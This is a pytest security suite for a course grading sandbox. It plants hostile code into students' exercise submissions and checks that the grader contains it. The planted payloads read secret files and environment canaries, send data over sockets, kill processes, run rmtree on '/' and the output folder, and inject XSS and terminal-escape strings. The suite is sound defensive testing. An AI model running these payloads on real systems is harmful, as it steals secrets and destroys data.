"""강사가 하듯이, 모든 연습의 나쁜 제출물이 섞인 한 반을 `grade_class`로 채점한다.

ex2의 스케줄과 파티션, ex3의 리소스, ex5와 capstone의 센서는 저마다 다른 길로 학습자의 코드를 부른다. 그 길마다 바깥을 노린다.
"""

import os
import re
import secrets
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from course_lib.grading import cohort
from course_lib.grading.misconceptions import load_material
from course_lib.grading.sandbox.client import zygote_supported
from tests.security.world import World

pytestmark = pytest.mark.skipif(not zygote_supported(), reason="격리하는 샌드박스는 리눅스에만 있다")

# 바깥을 읽고, 쓰고, 말하고, 프로그램을 남겨 본다. 훔친 것은 예외의 글로 내보낸다.
HARM = """\
import os as o, shutil as sh, socket as so, subprocess as su
loot = [v for k, v in o.environ.items() if 'CANARY' in k]
for path in ('SECRET', 'SIBLING', '/proc/PID/environ'):
    try: loot.append(open(path, errors='replace').read())
    except OSError: pass
for act in (lambda: open('SIBLING', 'w').write('hacked'), lambda: o.symlink('SECRET', 'SIBLING.link'), lambda: o.unlink('SIBLING'),
            lambda: o.rename('SIBLING', 'SIBLING.stolen'), lambda: o.mkdir('OUT/mallory'), lambda: sh.rmtree('OUT'),
            lambda: so.create_connection(('127.0.0.1', TCP), 1).sendall(b'hacked'),
            lambda: so.socket(2, 2).sendto(b'hacked', ('127.0.0.1', UDP)), lambda: so.socket(1, 2).sendto(b'hacked', 'UNIX'),
            lambda: su.Popen(['sleep', 'MARK'], start_new_session=True), lambda: o.kill(PID, 9), lambda: o.kill(o.getppid(), 9)):
    try: act()
    except Exception: pass
"""
TELL = "raise ValueError('훔침 ' + repr(loot)[:4000])\n"


@dataclass(frozen=True)
class Planted:
    """모범 답안의 `file`에서 `function`의 첫 줄에(없으면 파일의 끝에) 심을 코드."""

    exercise: str
    file: str
    function: str
    code: str

    def files(self) -> dict[str, bytes]:
        files = dict(load_material(self.exercise).reference)
        source = files[self.file].decode("utf-8")
        if self.function:
            found = re.search(rf"^( *)def {self.function}\(.*?\)(?: -> [^\n]*)?:\n", source, re.MULTILINE | re.DOTALL)
            indent = found[1] + "    "
            planted = source[: found.end()] + "".join(f"{indent}{line}\n" for line in self.code.splitlines()) + source[found.end():]
        else:
            planted = source + "\n" + self.code
        return files | {self.file: planted.encode("utf-8")}


PLANTED = {
    # ---- 바깥을 노린다
    "파티션": Planted("ex2", "partitions.py", "", HARM + TELL),
    "날마다의 자산": Planted("ex2", "assets.py", "raw_page_views", HARM + TELL),
    "스케줄": Planted("ex2", "schedules.py", "daily_page_views_schedule", HARM + TELL),
    "학습자의 테스트": Planted("ex2", "test_partitions.py", "", HARM),
    "리소스": Planted("ex3", "resources.py", "query", HARM + TELL),
    "리소스를 받는 자산": Planted("ex3", "assets.py", "user_profiles", HARM + TELL),
    "읽는 함수": Planted("ex5", "ingest.py", "parse", HARM + TELL),
    "센서": Planted("ex5", "sensors.py", "csv_sensor", HARM + TELL),
    "폴더를 지우는 센서": Planted("ex5", "sensors.py", "csv_sensor", HARM + "sh.rmtree(landing.folder, ignore_errors=True)\nsh.rmtree('/', ignore_errors=True)\n"),
    "날을 찾는 센서": Planted("capstone", "sensors.py", "views_sensor", HARM + TELL),
    "자산 검사": Planted("capstone", "checks.py", "rows_belong_to_day", HARM + TELL),
    "dbt를 부르는 정의": Planted("ex4", "definitions.py", "", HARM + TELL),
    # ---- 채점기를 지치게 하거나 속인다
    "끝없는 런 요청": Planted("ex5", "sensors.py", "csv_sensor", "return dg.SensorResult(run_requests=[dg.RunRequest(run_key=str(n)) for n in range(200_000)])"),
    "거대한 커서": Planted("ex5", "sensors.py", "csv_sensor", "return dg.SensorResult(run_requests=[], cursor='x' * 50_000_000)"),
    "없는 잡의 요청": Planted("ex5", "sensors.py", "csv_sensor", "return dg.RunRequest(run_key='<script>', job_name='\\x1b[2J', run_config={'ops': {'a': [1] * 9}})"),
    "글로 속이는 까닭": Planted("ex2", "schedules.py", "daily_page_views_schedule",
                         "return dg.SkipReason('</pre><script>alert(1)</script>\\x1b]0;hacked\\x07\\u202e' * 999)"),
    "글로 속이는 파티션": Planted("ex2", "schedules.py", "daily_page_views_schedule",
                          "return dg.RunRequest(run_key='<script>', partition_key='<img src=x onerror=alert(1)>')"),
    "끝나 버리는 스케줄": Planted("ex2", "schedules.py", "daily_page_views_schedule", "import os\nos._exit(0)"),
    "끝나지 않는 센서": Planted("capstone", "sensors.py", "views_sensor", "while True: pass"),
    "가짜를 바꾸는 리소스": Planted("ex3", "resources.py", "", "import course_lib.grading.stand_in_drivers as d, course_lib.grading.stand_ins as s\n"
                           "for module in (d, s):\n    for name in list(vars(module)):\n"
                           "        if isinstance(getattr(module, name), type): setattr(module, name, type(name, (), {}))\n"),
}
# 모범 답안에 심어도 점수를 잃지 않는 것: 테스트 파일은 시킨 일(바깥을 노리는 것)만 못 했을 뿐이다.
HARMLESS = {"학습자의 테스트"}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory):
    """(결과 폴더, 요약, 바깥, 남은 프로그램의 표시)"""
    folder = tmp_path_factory.mktemp("class")
    world, mark = World(tmp_path_factory.mktemp("w")), f"97{os.getpid()}"
    # 결과 폴더도 바깥이다: 옆 학생의 결과를 고치거나 지울 수 없어야 한다.
    world.names |= {"OUT": str(folder / "out"), "MARK": mark}
    handed_in = {name: planted.files() for name, planted in PLANTED.items()} | {"정직": dict(load_material("ex2").reference)}
    for name, files in handed_in.items():
        alias = PLANTED[name].exercise if name in PLANTED else "ex2"
        for file, data in files.items():
            path = folder / "in" / name / alias / file
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(world.aimed(data.decode("utf-8")).encode("utf-8"))
    os.environ["COURSE_CANARY"] = world.words["CANARY"] = secrets.token_hex(8)
    try:
        summary = cohort.grade_class(folder / "in", folder / "out", jobs=2)
    finally:
        del os.environ["COURSE_CANARY"]
    yield folder / "out", summary, world, mark
    world.close()


def test_nothing_outside_was_read_changed_or_spoken_to(graded):
    out, _, world, mark = graded
    assert world.files() == world.before
    assert world.heard() == []
    assert not [process.pid for process in psutil.process_iter(["cmdline"]) if mark in (process.info["cmdline"] or ())]
    written = {path.relative_to(out): path.read_bytes() for path in out.rglob("*") if path.is_file()}
    assert [(name, word) for name, data in written.items() for word in world.words.values() if word.encode() in data] == []
    assert not (out / "mallory").exists()


def test_the_attacks_really_ran_and_took_nothing(graded):
    """심은 코드가 끝까지 돌았고, 훔친 것이 하나도 없다고 스스로 말한다. 돌지 않은 공격은 아무것도 시험하지 않는다."""
    out, _, _, _ = graded
    told = {name: (out / name / load_material(planted.exercise).exercise.id / "result.json").read_text(encoding="utf-8")
            for name, planted in PLANTED.items() if planted.code.endswith(TELL)}
    assert len(told) == 10
    assert [name for name, text in told.items() if "훔침 []" not in text] == []


def test_every_one_is_judged_and_gains_nothing(graded):
    out, summary, _, _ = graded
    assert (summary.graded, summary.course_errors, summary.unreadable) == (len(PLANTED) + 1, 0, ())
    with cohort.Store(out) as store:
        scores = {record.student: record.score / record.max_score for record in store.records()}
    assert {name for name, share in scores.items() if share == 1} == {"정직", *HARMLESS}


def test_pages_of_the_class_hold_text_only(graded):
    out, _, _, _ = graded
    for page in [*out.rglob("feedback.html"), out / "summary.html"]:
        text = page.read_text(encoding="utf-8")
        assert "<script" not in text and "<img" not in text, page
        assert len(text) < 2_000_000, page
